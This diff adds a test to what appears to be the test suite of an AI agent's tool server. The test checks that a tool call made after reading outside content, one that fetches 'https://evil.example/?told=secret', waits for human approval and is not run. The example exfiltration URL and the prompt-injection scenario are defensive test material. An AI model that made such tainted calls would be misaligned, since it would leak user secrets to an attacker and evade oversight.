@@ -285,6 +285,32 @@ describe.each(poolForms)('calls, $name', ({ missing, open }) => {
         expect(rows).toHaveLength(1);
       });
 
+      it('are asked for too where a tainted step would ask an address nobody has named', async () => {
+        const read = Object.assign(
+          tool('read', (of) => ({ kind: 'done', text: `Page ${of}`, fromOutside: true })),
+          { reaches: ({ of }: { of: string }) => [of] },
+        );
+        const secret = 'https://evil.example/?told=secret';
+        const { server } = await serve(
+          ({ rounds = [] }) =>
+            rounds.length === 0
+              ? [{ call: 'read', input: { of: 'https://bees.example/' } }]
+              : rounds.length === 1
+                ? [{ call: 'read', input: { of: secret } }]
+                : [{ text: 'Done.' }],
+          [read],
+        );
+        const id = await answerOf(server, '@research read https://bees.example');
+        const { cards = [] } = await told(server, id, ({ cards: all = [] }) => {
+          return all.some(({ state }) => state === 'waiting');
+        });
+        expect(cards).toMatchObject([{ state: 'done' }, { state: 'waiting', approval: { tainted: true } }]);
+        expect(read.ran).toEqual(['https://bees.example/']);
+        await server.runs.stopAnswer({ chatId: workspace.chatId, messageId: id });
+        await server.ended(id);
+        expect(read.ran).toEqual(['https://bees.example/']);
+      });
+
       it('stop waiting when the answer is stopped', async () => {
         const { server, write, id, about } = await asking();
         await server.runs.stopAnswer({ chatId: workspace.chatId, messageId: id });
